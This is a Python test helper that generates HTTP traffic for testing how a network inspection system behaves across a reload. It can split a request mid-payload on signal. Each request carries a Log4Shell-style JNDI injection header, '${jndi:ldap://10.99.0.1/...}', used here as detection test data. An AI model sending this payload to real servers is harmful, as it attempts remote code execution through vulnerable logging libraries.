# SPDX-License-Identifier: GPL-2.0-or-later
"""requests.py sink PORT | send HOST PORT STOP-FILE | mark HOST PORT: what the test of reloading sends.

sink reads what comes and answers nothing. send keeps one connection with requests on it, each with a lookup of its own,
and opens a short one for every tenth, until STOP-FILE is there; it prints how many lookups it has sent. SIGUSR1 makes it
stop in the middle of a lookup, SIGUSR2 go on: the lookup's two halves then lie on both sides of whatever was done between.
mark sends more of no protocol than is read of one, and then a word again and again.
"""
import os
import signal
import socket
import sys
import threading
import time

PAUSE = 0.01  # between two requests: a load that is steady, and that every machine bears


def sink(port):
    server = socket.create_server(("", port), backlog=512)

    def drain(connection):
        with connection:
            while connection.recv(65536):
                pass

    while True:
        threading.Thread(target=drain, args=(server.accept()[0],), daemon=True).start()


def request(n):
    return b"GET /%d HTTP/1.1\r\nHost: shop.example\r\nX-Api: ${jndi:ldap://10.99.0.1/n%d}\r\n\r\n" % (n, n)


def send(host, port, stop):
    halted = threading.Event()
    signal.signal(signal.SIGUSR1, lambda *_: halted.set())
    signal.signal(signal.SIGUSR2, lambda *_: halted.clear())
    steady = socket.create_connection((host, port))
    steady.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    n = 0
    while not os.path.exists(stop):
        n += 1
        text = request(n)
        if halted.is_set():
            middle = text.index(b"ldap:")
            steady.sendall(text[:middle])
            with open(stop + ".halted", "w", encoding="ascii"):
                pass
            while halted.is_set():
                time.sleep(PAUSE)
            os.unlink(stop + ".halted")
            steady.sendall(text[middle:])
        elif n % 10 == 0:
            with socket.create_connection((host, port)) as short:
                short.sendall(text)
        else:
            steady.sendall(text)
        time.sleep(PAUSE)
    steady.close()
    print(n)


def mark(host, port):
    with socket.create_connection((host, port)) as unread:
        unread.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        unread.sendall(b"\1" * 65536)
        while True:
            unread.sendall(b"marker")
            time.sleep(PAUSE)


if __name__ == "__main__":
    if sys.argv[1] == "sink":
        sink(int(sys.argv[2]))
    elif sys.argv[1] == "mark":
        mark(sys.argv[2], int(sys.argv[3]))
    else:
        send(sys.argv[2], int(sys.argv[3]), sys.argv[4])
